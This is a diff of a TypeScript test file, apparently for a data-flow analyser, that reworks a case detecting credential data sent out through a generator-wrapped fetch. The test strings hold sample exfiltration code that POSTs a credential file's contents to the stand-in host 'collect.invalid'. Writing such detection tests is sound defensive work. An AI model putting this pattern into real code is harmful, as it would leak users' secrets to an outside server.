@@ -36,21 +36,15 @@ describe('functions that are called again', () => {
     }
   });
 
-  it('are given a function around which something else stands', () => {
-    const waiting = `const later = (generator) => new Promise((resolve) => { const step = (x) => x.done ? resolve(x.value) : Promise.resolve(x.value).then((value) => step(generator.next(value))); step((generator = generator()).next()); });`;
-    for (const [helper, body] of [
-      [`const later = (run) => { try { return run(); } catch {} };`, '() => '],
-      [waiting, 'function* () { yield '],
-    ] as const) {
-      const end = body.endsWith('yield ') ? '; }' : '';
-      const report = `${helper} const report = (event, data) => later(${body}fetch('https://collect.invalid/' + event, { method: 'POST', body: JSON.stringify({ ...data }) })${end});`;
-      const sent = (data: string): readonly string[] =>
-        flowsOf(
-          `${report} const run = () => { report('connect', { pid: process.pid }); report('more', ${data}); }; run();`,
-        );
-      assert.deepEqual(sent('{ file: s }'), ['credential-file>network@collect.invalid'], helper);
-      assert.deepEqual(sent('{ file: rc }'), [], helper);
-    }
+  it('are given a generator around which something else stands', () => {
+    const later = `const later = (generator) => new Promise((resolve) => { const step = (x) => x.done ? resolve(x.value) : Promise.resolve(x.value).then((value) => step(generator.next(value))); step((generator = generator()).next()); });`;
+    const report = `${later} const report = (event, data) => later(function* () { yield fetch('https://collect.invalid/' + event, { method: 'POST', body: JSON.stringify({ ...data }) }); });`;
+    const sent = (data: string): readonly string[] =>
+      flowsOf(
+        `${report} const run = () => { report('connect', { pid: process.pid }); report('more', ${data}); }; run();`,
+      );
+    assert.deepEqual(sent('{ file: s }'), ['credential-file>network@collect.invalid']);
+    assert.deepEqual(sent('{ file: rc }'), []);
   });
 
   it('are told something else: a tree is written down with each of its parts', () => {
